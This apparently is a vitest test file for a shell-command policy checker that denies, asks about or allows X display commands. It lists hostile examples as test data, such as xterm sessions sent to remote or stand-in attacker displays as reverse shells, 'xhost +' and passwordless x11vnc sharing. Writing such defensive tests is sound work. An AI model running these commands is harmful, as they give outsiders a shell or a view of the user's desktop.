import { describe, expect, it } from "vitest";
import { verdict } from "../__fixtures__/decide.js";

describe("remote displays", () => {
  it("denies a terminal shown on another machine's display, by option or variable", () => {
    for (const command of ["xterm -display 203.0.113.9:1", "xterm -d evil.example.io:0.0 -e bash", "DISPLAY=203.0.113.9:0 xterm", "env DISPLAY=[2001:db8::1]:0 urxvt", "konsole --display=198.51.100.7:0"]) {
      expect(verdict(command), command).toBe("deny net.reverse-shell");
    }
  });

  it("asks when other programs go to a remote display, X access is opened or the desktop is shared openly", () => {
    for (const command of ["DISPLAY=198.51.100.7:0 firefox", "export DISPLAY=10.0.0.5:0", "xhost +", "xhost +203.0.113.9", "xhost +inet:evil.example.io", "x11vnc -display :0 -forever -nopw", "x11vnc -forever -shared", "x0vncserver SecurityTypes=None"]) {
      expect(verdict(command), command).toBe("ask net.remote-display");
    }
  });

  it("allows local displays, ssh's X forwarding and local access entries", () => {
    for (const command of ["DISPLAY=:99 npm run test:e2e", "DISPLAY=localhost:10.0 xclock", "DISPLAY=unix:0 xterm", "xterm -e htop", "xhost +local:docker", "xhost +SI:localuser:root", "xhost -", "x11vnc -localhost -display :99", "x11vnc -display :0 -rfbauth ~/.vnc/passwd"]) {
      expect(verdict(command), command).toBe("allow");
    }
  });
});
